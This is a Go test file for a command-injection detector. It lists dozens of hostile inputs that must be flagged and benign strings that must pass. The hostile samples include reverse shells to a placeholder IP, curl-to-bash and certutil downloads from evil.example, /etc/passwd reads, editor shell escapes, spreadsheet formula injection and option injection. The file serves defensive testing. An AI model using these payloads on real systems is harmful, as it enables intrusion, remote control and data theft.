package detect

import "testing"

func TestRCERuns(t *testing.T) {
	recognises(t, RCE, Where{Place: InForm}, []string{
		"x; ssh-agent /bin/sh",
		";strings /etc/passwd",
		";cat index.php",
		"x; LESSOPEN='/bin/sh #' less /etc/passwd",
		";$0<<<id",
		"iex $x",
		"curl http://203.0.113.9/x.sh | bash",
		"mshta http://evil.example/a.hta",
		"perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,\"203.0.113.9:4242\");system$_ while<>;'",
		"x || nmap-helper --script-args 'os.execute(\"/bin/sh\")'",
		"1 && ranger -c /bin/bash",
		"nc 203.0.113.9 4444 -e sh",
		"socat TCP:203.0.113.9:4444 EXEC:/bin/sh",
		"a | bash -i 2>&1 | nc 203.0.113.9 4444",
		"python3 -c 'import socket,subprocess;s=socket.socket()'",
		"x;lua5.3 -e 'os.execute(\"id\")'",
		`awk 'BEGIN{s="/inet/tcp/0/203.0.113.9/4444"}'`,
		"203.0.113.9 `curl http://203.0.113.9/a`",
		"; `id` #",
		"'\"|`id`",
		"x & wget evil.example",
		"=cmd|' /C calc'!A0",
		"@SUM(1+1)*powershell|'-c calc'!_xlbgnm.A1",
		"--upload-pack=touch /tmp/x",
		"-oProxyCommand=curl evil.example",
		"x\n!/bin/sh",
		"'\nsysteminfo",
		"\nwhoami",
		"1\ncertutil -urlcache -f http://evil.example/a a.exe",
		"\"\x1aipconfig /all",
		"a.txt|echo PD9waHA= | base64 -d > 1.php",
		"(%pipe%id) (w) file",
		"x${run{/bin/sh}}",
		"; C='curl evil.example'; $C </dev/null",
		"$c=New-Object System.Net.Sockets.TCPClient('203.0.113.9',4444)",
	}, []string{
		"Tom; see /etc/hosts first",
		"edit the file; reload /etc/passwd lists",
		"$(dirname \"$0\") is where it lives",
		"Try `dir_context=$(dirname -- \"$1\")` and report back.",
		"use `name`; `id` is the key",
		"- `cat`",
		"=SUM(A1:A3)",
		"+49 30 123 | 'x'",
		"--pager is an option",
		"#!/bin/sh",
		"\n https://blog.example.com/nav/python",
		"intro\npython",
		"> see index.php",
		"100%pipe",
		"$a = 1; $b = 2;",
		"node: document.querySelector",
		"Wow!/bin/sh works",
		`process.args in (":!/bin/bash", ":!/bin/sh")`,
		"curl https://get.example.com | sh",
	})
	recognises(t, RCE, Where{Place: InQuery}, []string{
		"$(htop2 -d /tmp/x)",
		"31`curl evil.example`",
		"vi -c ':!/bin/sh'",
		"a && rlogin2 -l 'x' /tmp/a",
		"1\ntimeout 5 /etc/x",
	}, []string{
		"$(document)", "$(Build.Reason)", "$(CC)", "ping", "a & b",
	})
	recognises(t, RCE, Where{Place: InForm, Key: []byte("sysCmd")}, []string{"wget http://evil.example", "ping evil.example"}, []string{"open", "rm", "mkdir", "upload"})
	recognises(t, RCE, Where{Place: InForm, Name: true}, []string{" curl evil.example;", "cat /etc/passwd"}, []string{" python", "curl", "git url", "env[PATH]"})
}
